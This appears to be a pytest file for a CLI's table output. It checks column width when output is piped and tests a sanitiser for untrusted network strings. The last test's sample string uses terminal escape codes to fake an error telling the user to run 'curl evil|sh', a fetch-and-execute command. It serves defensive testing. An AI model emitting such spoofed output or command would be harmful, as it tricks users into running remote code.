"""Piped CLI tables are not cut to 80 columns (cli/console.py)."""

from __future__ import annotations

import io

import pytest
from rich.table import Table

from llmfabric.cli.console import PIPED_WIDTH, table_console

pytestmark = pytest.mark.unit


def _wide_table() -> Table:
    t = Table()
    for name in ("session", "state", "provider", "hardware", "models", "labels", "reach"):
        t.add_column(name)
    t.add_row("1cd7e5d0", "SERVING", "uni-zurich", "1x H100-SXM", "llama-3.1-8b",
              "site=zurich", "127.0.0.1:20464")
    return t


def test_a_piped_table_keeps_every_cell_whole(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("COLUMNS", raising=False)
    out = io.StringIO()
    console = table_console(file=out)
    assert console.width == PIPED_WIDTH
    console.print(_wide_table())
    text = out.getvalue()
    assert "…" not in text and "SERVING" in text and "127.0.0.1:20464" in text


def test_columns_still_decides_when_set(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "60")
    out = io.StringIO()
    table_console(file=out).print(_wide_table())
    assert "…" in out.getvalue()  # what the user asked for: 60 columns


@pytest.mark.hostile
def test_strings_from_the_network_cannot_drive_the_terminal() -> None:
    from llmfabric.cli.untrusted import printable

    evil = "m\x1b[31mFAKE ERROR: run curl evil|sh\x1b[0m\r\x07"
    out = printable(evil)
    assert out.isprintable() and "\x1b" not in out
    assert out == "m\\x1b[31mFAKE ERROR: run curl evil|sh\\x1b[0m\\r\\x07"
    assert printable("llama-3.1-8b ünïcode") == "llama-3.1-8b ünïcode"
